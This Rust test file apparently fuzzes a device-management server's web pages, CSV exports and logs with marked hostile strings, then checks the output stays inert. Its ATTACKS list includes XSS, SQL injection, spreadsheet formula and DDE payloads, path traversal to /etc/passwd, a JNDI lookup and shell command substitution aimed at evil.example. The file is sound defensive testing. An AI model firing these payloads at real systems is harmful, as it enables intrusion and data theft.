//! Texts that want to be more than texts: from machines, from asset files and from people, in every field that takes one. Pages
//! show them, tables carry them, the log tells of them; they do nothing.
//!
//! `FORESTAGE_HOSTILE_TEXTS=5000` makes so many instead of 300 (`cargo xtask nightly` does); `FORESTAGE_ATTACK_SEED=7` makes
//! others.

use std::collections::BTreeSet;
use std::sync::{Mutex, OnceLock};

use client::ClientError;
use rust_xlsxwriter::Workbook;
use serde_json::{Value, json};
use testkit::chance::{Chance, variable};
use wire::facts::{Disk, NetworkInterface};
use wire::imports::{AcceptImport, ImportSettings};

use crate::harness::{Machine, Site, event, good_run, send};

/// Stands in every one of these texts, with its number behind it, so that it is found wherever it went.
const MARK: &str = "kanari";
/// A page, a table: more than any of these have.
const ANSWER_BYTES_MAX: u64 = 64 << 20;

/// `#` stands for the mark and the number.
const ATTACKS: &[&str] = &[
    // what a browser would carry out
    "<script>alert('#')</script>",
    "</td></tr></table><script src=//evil.example/#></script>",
    "\"><img src=# onerror=alert(1)>",
    "' onmouseover='alert(1)' x='#",
    "\" autofocus onfocus=\"alert(1)\" x=\"#",
    "<svg/onload=alert(1) id=#>",
    "<iframe src=javascript:alert(1) name=#></iframe>",
    "<a href=\"javascript:alert('#')\">click</a>",
    "javascript:alert(1)//#",
    "data:text/html,<script>alert(1)</script>#",
    "</title><script>#</script>",
    "</textarea><script>#</script>",
    "</option></select><img src=# onerror=alert(1)>",
    "--><script>#</script><!--",
    "]]><script>#</script>",
    "<style>@import '//evil.example/#'</style>",
    "<link rel=stylesheet href=//evil.example/#>",
    "<meta http-equiv=refresh content='0;url=//evil.example/#'>",
    "<base href=//evil.example/#>",
    "<form action=//evil.example/#><input name=password>",
    "<details open ontoggle=alert(1)>#",
    "<math><mtext></form><form><mglyph><style></math><img src=# onerror=alert(1)>",
    "&lt;script&gt;#&lt;/script&gt;",
    "&#60;script&#62;#",
    "\u{ff1c}script\u{ff1e}#\u{ff1c}/script\u{ff1e}",
    "<scr\0ipt>#</scr\0ipt>",
    "<SCRIPT\n>#</SCRIPT\n>",
    "`-alert(1)-`#",
    "${alert(1)}#",
    // what a database would
    "'; DROP TABLE devices; --#",
    "' OR '1'='1' --#",
    "\\'; DELETE FROM audit; --#",
    "1); INSERT INTO users VALUES ('#'); --",
    "' UNION SELECT password FROM users --#",
    "%' OR 1=1 --#",
    "$1#",
    "_%#%_",
    // what a spreadsheet would
    "=HYPERLINK(\"https://evil.example/#\",\"click\")",
    "=cmd|' /C calc'!A0#",
    "+1+1#",
    "-2+3+#",
    "@SUM(1+1)#",
    "\t=1+1#",
    "\r=1+1#",
    "\n=1+1#",
    ";=1+1;#",
    ",\"=1+1\",#",
    "\"=1+1\"#",
    " =1+1#",
    "\u{200b}=1+1#",
    // what a log, a terminal or a header would
    "#\n2026-08-17T08:00:00Z INFO audit: admin signed in",
    "#\r\nset-cookie: forestage=evil\r\n\r\n<script>",
    "#\u{1b}[2J\u{1b}]0;evil\u{7}",
    "#\u{85}next line\u{2028}and\u{2029}another",
    // what a file system or a template would
    "../../../../etc/passwd#",
    "..\\..\\windows\\system32\\#",
    "%2e%2e%2f%2e%2e%2f#",
    "/etc/shadow\0#",
    "file:///etc/passwd#",
    "{{ 7 * 7 }}#",
    "{% for x in range(1000000000) %}#{% endfor %}",
    "${jndi:ldap://evil.example/#}",
    "$(touch /tmp/#)`id`",
    "%s%s%s%n#",
    // what people would take for something else
    "\u{202e}#gpj.exe",
    "\u{2066}#\u{2069}\u{feff}",
    "РF1#",
    "Z\u{0351}\u{036b}\u{0343}#\u{0489}",
    "\u{1f3f4}\u{e0067}\u{e007f}#",
    "null#",
    "true#",
    "-0#",
    "1e999#",
];

/// So many texts, each once.
struct Texts {
    chance: Chance,
    made: u64,
}

impl Texts {
    fn one(&mut self) -> String {
        self.made += 1;
        let mark = format!("{MARK}{}q", self.made);
        let attack = self.chance.pick(ATTACKS).replace('#', &mark);
        match self.chance.below(12) {
            0 => format!("PF{attack}"),
            1 => format!("{attack}{}", self.chance.pick(ATTACKS).replace('#', &mark)),
            2 => format!("{attack}{}", "æ<\"'&".repeat(self.chance.place(60))),
            3 => format!("{attack}{}", "A".repeat(100_000)),
            _ => attack,
        }
    }
}

impl Texts {
    /// As long as what has a limit that a machine keeps to by itself.
    fn short(&mut self) -> String {
        self.one().chars().take(500).collect()
    }
}

/// Taken or refused, but never an error of the server's own.
fn told<T>(what: &str, result: Result<T, ClientError>) -> Option<T> {
    match result {
        Ok(told) => Some(told),
        Err(ClientError::Refused { status, .. }) if status < 500 => None,
        Err(error) => panic!("{what}: {error:?}"),
    }
}

/// A machine that nobody knows.
fn unknown_machine(site: &Site, texts: &mut Texts) {
    let mut machine = Machine::new(&texts.one());
    let facts = &mut machine.facts;
    facts.vendor = texts.one();
    facts.product = texts.one();
    facts.sku = texts.one();
    facts.baseboard = texts.one();
    facts.asset_tag = texts.one();
    facts.network = vec![NetworkInterface {
        name: texts.one(),
        mac: texts.one(),
    }];
    facts.disks = vec![
        serde_json::from_value::<Disk>(json!({
            "path": texts.one(), "bus": "nvme", "model": texts.one(), "serial": texts.one(),
            "size-bytes": 1 << 30, "removable": false, "content": "blank",
        }))
        .unwrap(),
    ];
    let anyone = site.server.anyone();
    let challenge = anyone.challenge().unwrap().challenge;
    told("a check-in", anyone.check_in(&machine.sign(&challenge)));
}

/// A machine of ours whose run tells lies.
fn our_machine(site: &Site, texts: &mut Texts) -> String {
    let serial = format!("PF{}", texts.made);
    site.import(&format!("serial;class\n{serial};8B\n"));
    let (client, order) = Machine::new(&serial).order(site);
    let run = order.run;
    let mut events = good_run(run);
    events[0]["body"]["steps"] =
        json!([{ "path": "os", "title": texts.short(), "kind": texts.short() }]);
    events[2]["body"]["plan"] = json!({ "hostname": texts.short() });
    events[2]["body"]["text"] = texts.short().into();
    events[3]["body"]["text"] = texts.short().into();
    events[4] = event(
        run,
        5,
        json!({ "kind": "attempt-failed", "path": "os", "attempt": 1, "errors": [texts.short(), texts.short()],
            "wait-seconds": 1 }),
    );
    events[5] = event(
        run,
        6,
        json!({ "kind": "run-failed", "path": "os", "errors": [texts.short(), texts.short()], "hint": texts.short(),
            "last-lines": [texts.short()] }),
    );
    send(&client, run, &events);
    run.to_string()
}

/// Rows of an asset file, as CSV and as a workbook.
fn asset_files(site: &Site, texts: &mut Texts) {
    const TITLES: [&str; 8] = [
        "serial",
        "asset tag",
        "vendor",
        "model",
        "class",
        "site code",
        "site name",
        "order number",
    ];
    let mut row = || TITLES.map(|_| texts.one());
    let (first, second) = (row(), row());
    let file_name = format!("{}.xlsx", texts.short());

    let mut csv = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_writer(Vec::new());
    csv.write_record(TITLES).unwrap();
    csv.write_record(&first).unwrap();
    let csv = csv.into_inner().unwrap();
    told("an asset file", site.admin.import_assets(&csv, None, false));

    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, title) in (0..).zip(TITLES) {
        sheet.write_string(0, column, title).unwrap();
    }
    for (column, text) in (0..).zip(&second) {
        // A cell of Excel holds so many.
        let text: String = text.chars().take(30_000).collect();
        sheet.write_string(1, column, text).unwrap();
    }
    let book = book.save_to_buffer().unwrap();
    let uploaded = site
        .admin
        .upload_import(&file_name, &book, &ImportSettings::default());
    if let Some(draft) = told("a workbook", uploaded) {
        let accept = AcceptImport {
            valid_rows_only: true,
            seen: String::new(),
        };
        told(
            "its acceptance",
            site.admin.accept_import(draft.import.import, &accept),
        );
    }
}

/// What people name and describe, by the admin API. Returns the number in the names of a site and a collection.
fn people(site: &Site, texts: &mut Texts) -> u64 {
    let number = texts.made;
    let put = |method: &str, path: String, body: Value| {
        let answer = site.admin.send::<_, Value>(method, &path, &body);
        told(&path, answer);
    };
    put(
        "PUT",
        format!("/api/v1/collections/c{number}"),
        json!({ "name": format!("c{number}"), "title": texts.one() }),
    );
    put(
        "PUT",
        format!("/api/v1/sites/S{number}"),
        json!({ "name": texts.one() }),
    );
    put(
        "PUT",
        format!("/api/v1/classes/S{number}/8B"),
        json!({ "title": texts.one(), "teacher": texts.one() }),
    );
    put(
        "POST",
        "/api/v1/pupils".into(),
        json!({ "external-id": texts.one(), "name": texts.one(),
        "site": format!("S{number}"), "class": texts.one() }),
    );
    put(
        "POST",
        "/api/v1/tokens".into(),
        json!({ "title": texts.one() }),
    );
    put(
        "POST",
        "/api/v1/users".into(),
        json!({ "name": texts.one(), "role": "viewer" }),
    );
    put(
        "POST",
        "/api/v1/webhooks".into(),
        json!({ "url": format!("https://evil.example/{}", texts.one()) }),
    );
    put(
        "POST",
        "/api/v1/variables".into(),
        json!({ "scope": "site", "name": format!("S{number}"), "set": { "wifi": texts.one() }, "unset": [] }),
    );
    let mut view = String::new();
    url_encoded(&texts.one(), &mut view);
    put(
        "PUT",
        format!("/api/v1/views/{view}"),
        json!({ "query": texts.one() }),
    );
    number
}

fn url_encoded(text: &str, out: &mut String) {
    let short: String = text.chars().take(300).collect();
    for byte in short.bytes() {
        out.push_str(&format!("%{byte:02x}"));
    }
}

/// Reads HTML as a browser does, as far as it matters here: elements, attributes, text. What isn't written by us is refused.
struct Page<'a> {
    name: &'a str,
    rest: &'a str,
}

impl<'a> Page<'a> {
    fn check(name: &'a str, html: &'a str) {
        let mut page = Self { name, rest: html };
        while let Some(at) = page.rest.find('<') {
            page.rest = &page.rest[at + 1..];
            page.markup();
        }
    }

    fn markup(&mut self) {
        if let Some(rest) = self.rest.strip_prefix('!') {
            assert!(
                rest.to_lowercase().starts_with("doctype html>"),
                "{}: a comment: {}",
                self.name,
                start(rest)
            );
            return;
        }
        let is_end = self.rest.starts_with('/');
        self.rest = self.rest.trim_start_matches('/');
        let element = self.word();
        assert!(
            ELEMENTS.contains(&element),
            "{}: an element {element:?}: {}",
            self.name,
            start(self.rest)
        );
        let mut attributes = Vec::new();
        loop {
            self.rest = self.rest.trim_start();
            if let Some(rest) = self.rest.strip_prefix('>') {
                self.rest = rest;
                break;
            }
            if let Some(rest) = self.rest.strip_prefix('/') {
                self.rest = rest;
                continue;
            }
            attributes.push(self.attribute(element));
        }
        assert!(
            !is_end || attributes.is_empty(),
            "{}: </{element}",
            self.name
        );
        if element == "script" && !is_end {
            let source = attributes.iter().find(|(name, _)| *name == "src");
            assert!(
                source.is_some_and(|(_, value)| value.starts_with("/assets/"))
                    && self.rest.starts_with("</script>"),
                "{}: a script of another's: {attributes:?}",
                self.name
            );
        }
    }

    fn attribute(&mut self, element: &str) -> (&'a str, &'a str) {
        let name = self.word();
        let is_ours = !name.is_empty() && !name.starts_with("on") && !name.contains(MARK);
        assert!(
            is_ours && name != "srcdoc" && name != "http-equiv",
            "{}: an attribute {name:?} of <{element}>: {}",
            self.name,
            start(self.rest)
        );
        let Some(rest) = self.rest.strip_prefix('=') else {
            return (name, "");
        };
        let rest = rest.strip_prefix('"');
        let rest = rest.unwrap_or_else(|| panic!("{}: {name} without quotes", self.name));
        let end = rest.find('"').expect("the end of an attribute");
        let value = &rest[..end];
        self.rest = &rest[end + 1..];
        if matches!(
            name,
            "href" | "src" | "action" | "formaction" | "poster" | "data"
        ) {
            let is_harmless = ["/", "#", "?", "https://", "./"]
                .iter()
                .any(|start| value.starts_with(start));
            assert!(
                (is_harmless || value.is_empty()) && !value.starts_with("//"),
                "{}: {name} leads to {}",
                self.name,
                start(value)
            );
        }
        (name, value)
    }

    /// A name of letters, digits and what joins them.
    fn word(&mut self) -> &'a str {
        let is_part = |c: char| c.is_ascii_alphanumeric() || "-_:".contains(c);
        let end = self.rest.find(|c| !is_part(c)).unwrap_or(self.rest.len());
        let (word, rest) = self.rest.split_at(end);
        self.rest = rest;
        word
    }
}

/// The elements that our pages are made of.
const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "meta",
    "title",
    "link",
    "script",
    "body",
    "header",
    "nav",
    "main",
    "footer",
    "section",
    "article",
    "aside",
    "h1",
    "h2",
    "h3",
    "h4",
    "p",
    "a",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "div",
    "span",
    "table",
    "caption",
    "colgroup",
    "col",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
    "form",
    "fieldset",
    "legend",
    "label",
    "input",
    "select",
    "option",
    "optgroup",
    "textarea",
    "button",
    "details",
    "summary",
    "dialog",
    "svg",
    "path",
    "g",
    "rect",
    "circle",
    "line",
    "polyline",
    "polygon",
    "text",
    "use",
    "defs",
    "symbol",
    "time",
    "code",
    "pre",
    "kbd",
    "strong",
    "em",
    "b",
    "small",
    "s",
    "ins",
    "del",
    "abbr",
    "mark",
    "progress",
    "meter",
    "output",
    "template",
    "noscript",
    "br",
    "hr",
    "figure",
    "figcaption",
    "datalist",
    "search",
    "menu",
    "wbr",
];

fn start(text: &str) -> String {
    text.chars().take(120).collect()
}

/// The numbers of the texts that are in `text`.
fn found(text: &str) -> BTreeSet<u64> {
    let behind = text.split(MARK).skip(1);
    behind
        .filter_map(|rest| rest.split_once('q')?.0.parse().ok())
        .collect()
}

/// Every cell that a spreadsheet would take for a formula has been made a text.
fn check_table(name: &str, bytes: &[u8]) -> usize {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    let mut cells = 0;
    for record in reader.records() {
        for cell in &record.unwrap() {
            let begins = cell.chars().next();
            let is_formula = matches!(begins, Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n'));
            assert!(!is_formula, "{name}: a formula {}", start(cell));
            cells += usize::from(cell.contains(MARK));
        }
    }
    cells
}

/// What the server says in its log, of these texts alone: the other tests run beside this one.
static LOGGED: Mutex<Vec<String>> = Mutex::new(Vec::new());

/// Takes note of every line of the log with one of these texts in it.
struct Listener;

impl tracing::Subscriber for Listener {
    fn enabled(&self, metadata: &tracing::Metadata<'_>) -> bool {
        *metadata.level() <= tracing::Level::INFO && metadata.is_event()
    }
    fn new_span(&self, _: &tracing::span::Attributes<'_>) -> tracing::span::Id {
        tracing::span::Id::from_u64(1)
    }
    fn record(&self, _: &tracing::span::Id, _: &tracing::span::Record<'_>) {}
    fn record_follows_from(&self, _: &tracing::span::Id, _: &tracing::span::Id) {}
    fn event(&self, event: &tracing::Event<'_>) {
        event.record(&mut Said);
    }
    fn enter(&self, _: &tracing::span::Id) {}
    fn exit(&self, _: &tracing::span::Id) {}
}

struct Said;

impl tracing::field::Visit for Said {
    fn record_str(&mut self, _: &tracing::field::Field, value: &str) {
        if value.contains(MARK) {
            LOGGED.lock().unwrap().push(value.to_owned());
        }
    }
    fn record_debug(&mut self, field: &tracing::field::Field, value: &dyn std::fmt::Debug) {
        self.record_str(field, &format!("{value:?}"));
    }
}

/// One for all tests of this program, which has one log.
fn listen() {
    static LISTENS: OnceLock<()> = OnceLock::new();
    LISTENS.get_or_init(|| tracing::subscriber::set_global_default(Listener).unwrap());
}

#[test]
fn texts_stay_texts() {
    listen();
    let wanted = variable("FORESTAGE_HOSTILE_TEXTS").unwrap_or(300);
    let seed = variable("FORESTAGE_ATTACK_SEED").unwrap_or(1);
    eprintln!("{wanted} texts of FORESTAGE_ATTACK_SEED={seed}");
    let mut texts = Texts {
        chance: Chance::new(seed),
        made: 0,
    };
    let site = Site::new();
    site.prepare(10_000);
    let mut pages: Vec<String> = [
        "",
        "wall",
        "insights",
        "runs",
        "devices",
        "device-names",
        "quarantine",
        "sites",
        "classes",
        "models",
        "deployments",
        "collections",
        "variables",
        "sequences",
        "packages",
        "prestages",
        "users",
        "tokens",
        "account",
        "trust",
        "audit",
        "webhooks",
        "pupils",
        "pupils/classes",
        "pupils/history",
        "assign",
        "labels",
        "imports",
        "receipts",
    ]
    .map(|page| format!("/{page}"))
    .to_vec();
    while texts.made < wanted {
        unknown_machine(&site, &mut texts);
        let number = people(&site, &mut texts);
        asset_files(&site, &mut texts);
        let run = our_machine(&site, &mut texts);
        pages.push(format!("/runs/{run}"));
        pages.push(format!("/sites/S{number}"));
        pages.push(format!("/collections/c{number}"));
    }
    let devices = site.admin.devices().unwrap();
    for device in &devices {
        let mut serial = String::new();
        url_encoded(&device.serial, &mut serial);
        pages.push(format!("/devices/{serial}"));
    }
    for import in site.admin.imports().unwrap() {
        pages.push(format!("/imports/{}", import.import));
    }

    let (mut shown, mut read) = (BTreeSet::new(), 0);
    for page in &pages {
        let Some(html) = told(page, site.admin.get_bytes(page, ANSWER_BYTES_MAX)) else {
            continue;
        };
        let html = String::from_utf8(html).unwrap();
        Page::check(page, &html);
        shown.extend(found(&html));
        read += 1;
    }
    let mut cells = 0;
    for table in ["devices", "runs", "audit", "assignments", "insights"] {
        let path = format!("/api/v1/{table}.csv");
        if let Some(bytes) = told(&path, site.admin.get_bytes(&path, ANSWER_BYTES_MAX)) {
            cells += check_table(&path, &bytes);
        }
    }
    cells += check_table(
        "asset-computers",
        &site.admin.asset_computers_csv("", "").unwrap(),
    );
    let logged = std::mem::take(&mut *LOGGED.lock().unwrap());
    for line in &logged {
        let is_one_line = !line
            .chars()
            .any(|c| c.is_control() || "\u{2028}\u{2029}".contains(c));
        assert!(is_one_line, "the log: {:?}", start(line));
    }
    eprintln!(
        "{} texts; {} shown on {read} of {} pages, {cells} cells of tables, {} lines of the log",
        texts.made,
        shown.len(),
        pages.len(),
        logged.len()
    );
    assert!(
        shown.len() as u64 * 3 > texts.made,
        "most are shown somewhere"
    );
    assert!(cells > 0 && !logged.is_empty());
    // They did nothing to what is kept either.
    let verified: Value = site.admin.get("/api/v1/audit/verify").unwrap();
    assert_eq!(verified["broken"], Value::Null, "{verified}");
    assert!(verified["head"]["number"].as_u64() > Some(0), "{verified}");
}

/// What is looked with sees what is wrong.
#[test]
fn what_is_more_than_text_is_seen() {
    Page::check(
        "sound",
        "<!DOCTYPE html><p class=\"a\">1 &lt; 2</p><a href=\"/devices\">x</a><br/>",
    );
    check_table("sound", b"a,b\n'=1+1,2\n");
    for html in [
        "<p><script>alert(1)</script>",
        "<script src=\"//evil.example\"></script>",
        "<script src=\"/assets/a.js\">alert(1)</script>",
        "<p onclick=\"alert(1)\">",
        "<img src=\"/x\">",
        "<p class=a>",
        "<a href=\"javascript:alert(1)\">",
        "<a href=\"//evil.example\">",
        "<p kanari1q>",
        "<!-- a comment -->",
        "<x-evil>",
    ] {
        let seen = std::panic::catch_unwind(|| Page::check("evil", html));
        assert!(seen.is_err(), "{html}");
    }
    for table in ["=1+1,2\n", "1,@SUM(A1)\n", "1,\"\t=1\"\n"] {
        let seen = std::panic::catch_unwind(|| check_table("evil", table.as_bytes()));
        assert!(seen.is_err(), "{table}");
    }
}
